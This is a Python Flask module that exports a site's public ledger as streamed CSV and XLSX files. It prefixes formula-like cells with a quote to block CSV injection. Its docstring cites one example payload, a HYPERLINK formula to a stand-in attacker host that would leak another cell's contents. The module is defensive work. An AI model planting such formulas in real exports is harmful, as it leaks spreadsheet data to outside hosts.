"""Every CSV and XLSX the site writes: cells made inert for spreadsheets, rows streamed.

A spreadsheet program reads a cell that starts with = + - @ (or a tab or carriage return
before one of them) as a formula: a donor named '=HYPERLINK("http://evil.example/?"&B2)'
would become a live link in the public ledger. OWASP's CSV-injection guidance: prefix
such a cell with a single quote, so that it is shown as the text it is. Numbers stay
numbers (a negative amount is an int, never text), and text that is exactly a plain
decimal number (such as "-12.50") is left alone because no program reads it as a formula.

Downloads are generators: a CSV is sent row by row, an XLSX is written by openpyxl's
write-only mode to a temporary file and then sent in chunks, so a worker's memory does
not grow with the size of the table.
"""

from __future__ import annotations

import csv
import io
import re
import tempfile
from collections.abc import Iterable, Iterator
from datetime import date, datetime
from decimal import Decimal

from flask import Response, stream_with_context

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"^[+-]?[0-9]+(\.[0-9]+)?$")
SAFE_NAME = re.compile(r"[^A-Za-z0-9._-]")
CSV_BATCH = 500  # rows per chunk sent: few enough to keep memory flat, enough to be fast
CHUNK_BYTES = 64 * 1024
MIME = {"csv": "text/csv; charset=utf-8",
        "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}

Cell = object


def neutral(value: Cell) -> Cell:
    """The cell as a spreadsheet should store it: never a formula."""
    if value is None or isinstance(value, bool | int | float | Decimal | date | datetime):
        return value
    text = str(value)
    if text.startswith(FORMULA_START) and not PLAIN_NUMBER.match(text):
        return "'" + text
    return text


def _csv_cell(value: Cell) -> Cell:
    if value is True:
        return "true"
    if value is False:
        return "false"
    return neutral(value)


def csv_chunks(header: list[str], rows: Iterable[Iterable[Cell]]) -> Iterator[bytes]:
    """UTF-8 with a byte-order mark (spreadsheets then read Chinese names right), CRLF."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    buffer.write("\ufeff")
    writer.writerow([_csv_cell(h) for h in header])
    for count, row in enumerate(rows, start=1):
        writer.writerow([_csv_cell(v) for v in row])
        if count % CSV_BATCH == 0:
            yield buffer.getvalue().encode("utf-8")
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue().encode("utf-8")


def xlsx_chunks(title: str, header: list[str], rows: Iterable[Iterable[Cell]]
                ) -> Iterator[bytes]:
    """One sheet written in openpyxl's write-only mode, then read back in chunks."""
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title[:31])  # Excel's limit on a sheet's name
    sheet.append([neutral(h) for h in header])
    for row in rows:
        sheet.append([neutral(v) for v in row])
    with tempfile.TemporaryFile() as out:
        book.save(out)
        out.seek(0)
        while chunk := out.read(CHUNK_BYTES):
            yield chunk


def csv_bytes(header: list[str], rows: Iterable[Iterable[Cell]]) -> bytes:
    """A small CSV (an import template) in one piece."""
    return b"".join(csv_chunks(header, rows))


def xlsx_bytes(title: str, header: list[str], rows: Iterable[Iterable[Cell]]) -> bytes:
    return b"".join(xlsx_chunks(title, header, rows))


def response(fmt: str, filename: str, title: str, header: list[str],
             rows: Iterable[Iterable[Cell]], cache: str = "no-store") -> Response:
    """A streamed attachment; the rows are produced while it is sent, in the request's
    context (the database session stays open until the last row)."""
    filename = SAFE_NAME.sub("_", filename)[:120]  # query arguments become part of it
    # Nothing may read the rows here, in the view: Flask tears the request down (and
    # closes the database session) when the view returns, and pushes its context again
    # for the generator; a query begun here would lose its session after the first batch.
    chunks = csv_chunks(header, rows) if fmt == "csv" else xlsx_chunks(title, header, rows)
    return Response(stream_with_context(chunks), content_type=MIME[fmt],
                    headers={"Content-Disposition": f'attachment; filename="{filename}"',
                             "Cache-Control": cache, "X-Content-Type-Options": "nosniff"})
